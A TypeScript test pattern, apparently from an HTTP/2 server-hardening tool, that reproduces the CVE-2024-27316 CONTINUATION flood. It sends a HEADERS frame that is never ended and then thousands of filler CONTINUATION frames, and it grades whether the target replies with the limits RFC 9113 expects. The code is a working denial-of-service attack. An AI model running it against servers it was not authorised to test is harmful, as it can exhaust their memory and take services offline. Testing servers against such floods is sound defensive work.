/**
 * The 2024 CONTINUATION flood (CVE-2024-27316 and relatives): a HEADERS frame without END_HEADERS, then
 * CONTINUATION frames full of header fields that never end the block — the target must keep the block
 * until it ends, so it must limit it.
 */
import { Engagement } from '../engagement.ts';
import { continuationFrame, headersFrame, requestBlock } from '../frames.ts';
import { encodeHeaderBlock } from '../../h2/hpack.ts';
import { judgeUnendingBlock } from './answers.ts';
import { definePattern } from './types.ts';

/** Size of each filler field's value: large enough that a frame holds few fields, small enough to be a plausible header. */
const FILLER_VALUE_BYTES = 200;

export default definePattern({
  id: 'continuation-flood',
  title: 'CONTINUATION flood',
  cve: 'CVE-2024-27316',
  year: 2024,
  summary: 'HEADERS without END_HEADERS, then full CONTINUATION frames of header fields, never ending the block',
  expected: "GOAWAY ENHANCE_YOUR_CALM, or 431 / RST_STREAM for the stream, once the block passes the target's limits (§10.5, §10.5.1)",
  rfc: 'RFC 9113 §6.10, §10.5, §10.5.1',
  defaults: { frames: 2_000 },
  scaled: ['frames'],
  async run(ctx, p) {
    const e = new Engagement(ctx, 'CONTINUATION frames', p.frames);
    const peer = await e.open({ handshake: true });
    if (peer !== null) {
      const head = headersFrame(1, requestBlock({ method: 'GET', authority: ctx.target.authority, path: ctx.paths.small }), {
        endStream: true,
        endHeaders: false,
      });
      const field = encodeHeaderBlock([['x-flood', 'c'.repeat(FILLER_VALUE_BYTES)]]);
      const fragment = Buffer.concat(Array.from({ length: Math.floor(peer.settings.maxFrameSize / field.length) }, () => field));
      const cont = continuationFrame(1, fragment, false);
      e.sent(await peer.writeUnits(p.frames, (i) => (i === 0 ? [head, cont] : cont), ctx.budget));
    }
    return e.finish();
  },
  judge: judgeUnendingBlock,
});
